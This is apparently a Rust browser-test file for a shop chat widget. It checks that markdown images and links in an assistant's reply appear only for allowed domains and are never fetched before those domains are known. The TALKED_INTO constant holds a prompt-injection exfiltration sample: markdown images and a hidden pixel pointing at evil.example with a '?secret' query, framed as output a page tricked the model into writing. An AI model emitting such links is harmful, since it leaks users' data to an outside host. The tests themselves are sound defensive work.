//! Whose pictures are shown in answers, and where links lead: where the agent allows it.

use crate::{
    runner::{Story, stories},
    shop::Shop,
    stage::{Setup, Stage},
};

pub(super) const STORIES: &[Story] = stories![
    pictures_are_links_where_nobody_says_whose_are_shown,
    pictures_and_links_of_named_domains_alone_are_shown,
    nothing_leads_away_before_it_is_known_where_it_may,
];

/// What a model says that was talked into it by a page that it read.
const TALKED_INTO: &str = "![Our tent](/icon.svg?tent)\n\n\
    ![](https://evil.example/a.png?secret) and [this](https://evil.example/b) and \
    [![A pixel](https://evil.example/c.png)](https://evil.example/d)\n\n\
    [Returns](/returns), https://evil.example/e, [mail](mailto:help@shop.example)";

/// What of these is drawn: pictures that are there, and where links lead.
const DRAWN: &str = "
    const root = document.querySelector('parlor-chat').shadowRoot
    const text = [...root.querySelectorAll('[part=text]')].at(-1)
    return [
      [...text.querySelectorAll('img')].map((it) => `${it.getAttribute('src')} ${it.alt}`),
      [...text.querySelectorAll('a')].map((it) => `${it.getAttribute('href')} ${it.textContent}`),
      [...text.querySelectorAll('a a')].length,
      performance.getEntriesByType('resource').filter((it) => /evil|tent/.test(it.name)).map((it) =>
        new URL(it.name).search),
    ]";

type Drawn = (Vec<String>, Vec<String>, u32, Vec<String>);

async fn drawn(shop: &Shop) -> Drawn {
    shop.tells(DRAWN).await
}

/// An agent of a shop that shows its own pictures, and leads to its own pages.
fn ours() -> Setup {
    let mut setup = Setup::default();
    let own = || vec!["127.0.0.1".to_owned(), "localhost".to_owned()];
    (setup.settings.link_domains, setup.settings.image_domains) = (own(), own());
    setup
}

async fn pictures_are_links_where_nobody_says_whose_are_shown(stage: Stage) {
    let (shop, bot) = stage.shop().await;
    let chat = shop.open_chat().await;
    bot.will_answer(TALKED_INTO);
    chat.ask("What do you have?").await;
    chat.last_reply().at_its_end().await;
    let (pictures, links, nested, fetched) = drawn(&shop).await;
    assert_eq!(pictures, [""; 0]);
    assert_eq!(
        links,
        [
            "/icon.svg?tent Our tent",
            "https://evil.example/a.png?secret https://evil.example/a.png?secret",
            "https://evil.example/b this",
            "https://evil.example/d A pixel",
            "/returns Returns",
            "https://evil.example/e https://evil.example/e",
            "mailto:help@shop.example mail",
        ]
    );
    assert_eq!((nested, fetched.is_empty()), (0, true), "{fetched:?}");
}

async fn pictures_and_links_of_named_domains_alone_are_shown(stage: Stage) {
    let (shop, bot, _) = stage.open(ours()).await;
    let chat = shop.open_chat().await;
    bot.will_answer(TALKED_INTO);
    chat.ask("What do you have?").await;
    chat.last_reply().at_its_end().await;
    is_held_to_our_own(&shop).await;
    chat.link("Our tent").is_there().await;
    shop.is_so(
        "the picture is there, as high as it was before",
        "const root = document.querySelector('parlor-chat').shadowRoot
         const { complete, naturalWidth, clientWidth, clientHeight } = root.querySelector('[part=image]')
         return complete && naturalWidth > 0 && Math.abs(clientWidth * 9 / 16 - clientHeight) < 2",
    )
    .await;
    chat.last_reply()
        .reads(
            "https://evil.example/a.png?secret and this and A pixel \
             Returns, https://evil.example/e, mail",
        )
        .await;
}

async fn is_held_to_our_own(shop: &Shop) {
    let (pictures, links, nested, fetched) = drawn(shop).await;
    assert_eq!(pictures, ["/icon.svg?tent Our tent"]);
    assert_eq!(links, ["/icon.svg?tent ", "/returns Returns", "mailto:help@shop.example mail"]);
    assert_eq!(nested, 0);
    assert!(fetched.iter().all(|it| it == "?tent"), "{fetched:?}");
}

/// Answers come before it is known how the agent presents itself.
const HOLD: &str = "
    const real = window.fetch
    window.fetch = async (what, ...rest) => {
      if ((what.url ?? String(what)).includes('/config/')) await new Promise((go) => (window.tell = go))
      return real(what, ...rest)
    }";

async fn nothing_leads_away_before_it_is_known_where_it_may(stage: Stage) {
    let (shop, bot, _) = stage.open(ours()).await;
    let chat = shop.open_chat().await;
    bot.will_answer(TALKED_INTO);
    chat.ask("What do you have?").await;
    chat.last_reply().at_its_end().await;
    shop.reload().await;
    shop.tells::<()>(HOLD).await;
    let chat = shop.open_chat().await;
    chat.shows("the answer", |it| it.texts().last().is_some_and(|it| it.ends_with("mail"))).await;
    let (pictures, links, _, fetched) = drawn(&shop).await;
    assert_eq!((pictures.len(), links.len()), (0, 0), "{links:?}");
    assert_eq!(fetched, [""; 0]);
    shop.tells::<()>("window.tell()").await;
    chat.link("Our tent").is_there().await;
    is_held_to_our_own(&shop).await;
}
